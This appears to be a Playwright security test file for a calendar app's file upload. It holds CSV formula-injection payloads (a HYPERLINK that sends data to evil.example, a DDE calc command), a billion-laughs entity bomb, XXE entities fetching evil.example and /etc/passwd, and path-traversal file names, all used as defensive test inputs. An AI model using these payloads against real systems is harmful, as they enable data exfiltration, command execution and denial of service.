import { expect } from "playwright/test";
import { contentLines, readCalendar } from "@/lib/calendar/read-calendar";
import { test } from "./fixtures";
import { dragFile } from "./hand-over";
import { khalCalendar } from "./sample-files";
import { textBox } from "./visitor";

const formulas = [
  `5 Dec 2026 at 7pm,"=HYPERLINK(""https://evil.example/?x=""&A1,""Supper"")"`,
  `6 Dec 2026 at 8pm,@SUM(A1:A9) dinner`,
  `7 Dec 2026 at 9pm,"+cmd|' /C calc'!A0 party"`,
];

test("B10: formulas of a table are inert words in the box, in the group and in its file", {
  tag: "@phone",
}, async ({ page }) => {
  await page.goto("/chat");
  await dragFile(page, { name: "rota.csv", content: `Date,What\n${formulas.join("\n")}` });
  const box = textBox(page);
  await expect(box).toHaveValue(/=HYPERLINK\("https:\/\/evil\.example\/\?x="&A1,"Supper"\)/);
  await expect(box).toHaveValue(/\+cmd\/' \/C calc'!A0 party/);
  await box.press("Enter");
  await expect(page).toHaveURL(/\/groups\/[\w-]{22}$/);
  await expect(page.getByRole("article")).toHaveCount(3);
  await expect(page.getByRole("article").getByRole("link", { name: /evil|Supper/ })).toHaveCount(0);
  const groupId = page.url().split("/").at(-1) ?? "";
  const answer = await page.request.get(`/api/v1/groups/${groupId}/download_ics/`);
  expect(answer.headers()["content-type"]).toMatch(/^text\/calendar/);
  const file = await answer.text();
  expect(
    readCalendar(file)
      .events.map(({ summary }) => summary)
      .join("\n"),
  ).toMatch(/HYPERLINK.*SUM.*calc/s);
  // No line begins with what a spreadsheet would reckon: each has the name of its property before it.
  expect(contentLines(file).filter((line) => !/^[A-Z-]+[:;]/.test(line))).toEqual([]);
});

const laughs = [
  '<!ENTITY a "lol">',
  ..."bcdefghij".split("").map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghi"[at]};`.repeat(10)}">`),
].join("");

for (const { name, content, words } of [
  {
    name: "laughs.html",
    content: `<!DOCTYPE html [${laughs}]><p>Dinner on 5 Dec 2026 at 7pm &j;</p>`,
    words: /Dinner on 5 Dec 2026 at 7pm &j;/,
  },
  {
    name: "outside.html",
    content: `<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/x"><!ENTITY y SYSTEM "file:///etc/passwd">]><p>Dinner on 5 Dec 2026 at 7pm &x;&y;</p>`,
    words: /Dinner on 5 Dec 2026 at 7pm &x;&y;/,
  },
]) {
  test(`B10: entities of a document's own grow and fetch nothing: ${name}`, async ({ page }) => {
    await page.goto("/chat");
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url()));
    await dragFile(page, { name, content });
    await expect(textBox(page)).toHaveValue(words);
    expect((await textBox(page).inputValue()).length).toBeLessThan(2000);
    expect(asked.filter((url) => /evil|passwd/.test(url))).toEqual([]);
  });
}

test("B10: an SVG with entities is refused unread", async ({ page }) => {
  await page.goto("/chat");
  const content = `<?xml version="1.0"?><!DOCTYPE svg [${laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`;
  await dragFile(page, { name: "laughs.svg", content, type: "image/svg+xml" });
  await expect(page.getByText("laughs.svg is of a kind that cannot be read here.").first()).toBeVisible();
  await expect(textBox(page)).toHaveValue("");
});

for (const name of ["../../x.txt", "C:\\x\\..\\y.txt", "/etc/cron.d/x.txt"]) {
  test(`B10: a path in a file's name stands in a sentence alone: ${name}`, async ({ page }) => {
    await page.goto("/chat");
    await dragFile(page, { name, content: "Dinner on 5 Dec 2026 at 7pm" });
    await expect(textBox(page)).toHaveValue("Dinner on 5 Dec 2026 at 7pm");
    await textBox(page).press("Enter");
    await expect(page).toHaveURL(/\/groups\/[\w-]{22}$/);
    await expect(page.getByRole("article", { name: "Dinner" })).toBeVisible();
  });
}

test("B10: a path in a calendar's name is sent nowhere", async ({ page }) => {
  await page.goto("/chat");
  const [request] = await Promise.all([
    page.waitForRequest((sent) => sent.method() === "POST"),
    dragFile(page, { name: "../../canary.ics", content: khalCalendar }),
  ]);
  expect(`${request.url()} ${request.postData() ?? ""}`).not.toContain("canary");
  await expect(page).toHaveURL(/\/groups\/[\w-]{22}$/);
});
